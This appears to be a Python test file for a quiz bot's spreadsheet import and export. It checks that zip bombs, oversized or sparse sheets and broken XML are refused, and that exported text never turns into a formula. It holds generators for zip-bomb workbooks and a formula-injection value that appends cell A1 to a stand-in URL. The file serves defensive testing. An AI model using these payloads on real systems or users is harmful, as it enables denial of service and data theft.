"""Spreadsheets that cannot hurt: zip bombs, huge or sparse sheets and broken XML are
refused before openpyxl parses them, and exported text never becomes a formula."""

from __future__ import annotations

import io
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.members.roster import RosterError, parse_roster_bytes
from content.spreadsheet import MAX_UNCOMPRESSED, Refused, check_archive, read_rows
from db.engine import Database
from sandbox.simulation import expect
from tests.e2e.test_content_import import GOOD_ROW, XLSX, questions, sheet

ROOT = Path(__file__).resolve().parents[2]

# The `admin` fixture: an admin of the Kota Kediri roster with the bank loaded.
from tests.e2e.test_content_import import admin  # noqa: E402, F401


def with_sheet(sheet_xml: bytes) -> bytes:
    """A valid workbook whose first sheet's XML is replaced (compressed as a real one)."""
    source = zipfile.ZipFile(io.BytesIO(sheet([GOOD_ROW])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            target.writestr(item.filename, data)
    return out.getvalue()


def bomb(rows: int, cells_per_row: int = 1, dimension: str = "A1:M1") -> bytes:
    cell = b'<c t="inlineStr"><is><t>x</t></is></c>' * cells_per_row
    body = b"".join(b'<row r="%d">%s</row>' % (n, cell) for n in range(1, rows + 1))
    return with_sheet(
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><dimension ref="' + dimension.encode() + b'"/>'
        b"<sheetData>" + body + b"</sheetData></worksheet>"
    )


def sparse(last_row: int) -> bytes:
    """Two rows, the second numbered ``last_row``, declared 16,384 columns wide: openpyxl
    alone would fill every row in between with 16,384 empty cells."""
    return with_sheet(
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><dimension ref="A1:XFD%d"/><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>kode</t></is></c></row>'
        b'<row r="%d"><c r="XFD%d" t="inlineStr"><is><t>x</t></is></c></row>'
        b"</sheetData></worksheet>" % (last_row, last_row, last_row)
    )


def broken_xml() -> bytes:
    return with_sheet(b'<?xml version="1.0"?><worksheet><sheetData><row r="1"><c>')


def test_a_zip_bomb_is_refused_from_its_declared_size() -> None:
    data = bomb(rows=10, cells_per_row=120_000)  # ~45 MB of XML in a few hundred kB
    assert len(data) < 1024 * 1024
    with pytest.raises(Refused) as info:
        check_archive(data, max_rows=100)
    assert info.value.reason == "too_large"
    assert info.value.limit == MAX_UNCOMPRESSED


def test_rows_are_counted_before_parsing() -> None:
    with pytest.raises(Refused) as info:
        check_archive(bomb(rows=3000), max_rows=2003)
    assert info.value.reason == "too_many_rows"
    with pytest.raises(Refused) as info:
        check_archive(sparse(1_048_576), max_rows=2003)
    assert info.value.reason == "too_many_rows"


@pytest.mark.parametrize(
    "data",
    [b"PK\x03\x04 not really", b"ini bukan spreadsheet", b"", broken_xml()],
    ids=["truncated zip", "text", "empty", "broken xml"],
)
def test_anything_unreadable_is_invalid(data: bytes) -> None:
    with pytest.raises(Refused) as info:
        read_rows(data, max_rows=100, max_cols=20)
    assert info.value.reason == "invalid"


def test_wide_rows_are_read_only_as_wide_as_asked() -> None:
    rows = read_rows(sparse(5), max_rows=100, max_cols=20)
    assert [len(r) for r in rows] == [20] * 5


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (bomb(rows=10, cells_per_row=120_000), "terlalu besar setelah dibuka"),
        (sparse(1_048_576), "lebih dari 50.000 baris"),
        (broken_xml(), "bukan .xlsx yang valid"),
        (b"PK\x03\x04" + b"\x00" * 50, "bukan .xlsx yang valid"),
    ],
    ids=["bomb", "sparse", "broken xml", "fake zip"],
)
def test_the_roster_refuses_them_too(data: bytes, words: str) -> None:
    with pytest.raises(RosterError) as info:
        parse_roster_bytes(data, "unit.xlsx")
    assert words in str(info.value)


def test_the_largest_accepted_file_stays_under_100_mb() -> None:
    """The worst file that passes the checks, parsed in a fresh process: its peak memory
    over the process's own baseline (the file already in memory)."""
    script = textwrap.dedent(
        """
        import resource, sys
        from content.spreadsheet import MAX_UNCOMPRESSED
        from content.xlsx import parse_sheet, SheetRejected
        from bot.members.roster import RosterError, parse_roster_bytes
        from tests.e2e.test_spreadsheet_safety import bomb
        # Just under the limit: the question sheet's 2,003 rows, as wide as XML allows.
        per_row = (MAX_UNCOMPRESSED - 4096) // 2003 // 40
        data = bomb(rows=2003, cells_per_row=per_row)
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        for parse in (lambda: parse_sheet(data, {}), lambda: parse_roster_bytes(data, "u.xlsx")):
            try:
                parse()
            except (SheetRejected, RosterError):
                pass
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print((after - before) // 1024)
        """
    )
    result = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, check=True
    )
    growth_mb = int(result.stdout.strip().splitlines()[-1])
    assert growth_mb < 100, growth_mb


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (bomb(rows=10, cells_per_row=120_000), "terlalu besar setelah dibuka"),
        (bomb(rows=3000), "maksimal 2000 soal"),
        (broken_xml(), "bukan .xlsx yang valid"),
    ],
    ids=["bomb", "rows", "broken xml"],
)
async def test_an_admin_upload_is_refused_and_nothing_imported(
    admin,  # noqa: F811
    kediri: Database,
    data: bytes,
    words: str,
) -> None:
    before = len(questions(kediri))
    await admin.upload_document("soal.xlsx", data, mime_type=XLSX)
    reply = await expect(admin, "belum bisa diimpor")
    assert words in reply.text
    assert len(questions(kediri)) == before


async def test_a_formula_comes_back_out_as_text(admin, sandbox, kediri: Database) -> None:  # noqa: F811
    formula = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    rows = [{**GOOD_ROW, "scene": formula, "option_1": "-1 poin bagi yang menolak"}]
    upload = load_workbook(io.BytesIO(sheet(rows)))
    for row in upload.active.iter_rows():
        for cell in row:
            if cell.value == formula:
                cell.data_type = "s"  # as HR typed it: a text, which openpyxl would not keep
    buffer = io.BytesIO()
    upload.save(buffer)
    await admin.upload_document("soal.xlsx", buffer.getvalue(), mime_type=XLSX)
    confirm = await expect(admin, "Impor 1 soal")
    await admin.press(confirm, "✅ Impor 1 soal")
    await expect(admin, "Impor selesai")
    await admin.send("/soal_ekspor")
    doc = await expect(admin, "Bank soal aktif")
    data = sandbox.world.files[doc.document["file_id"]].data
    ws = load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells[formula].data_type == "s" and cells[formula].quotePrefix
    assert cells["-1 poin bagi yang menolak"].data_type == "s"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
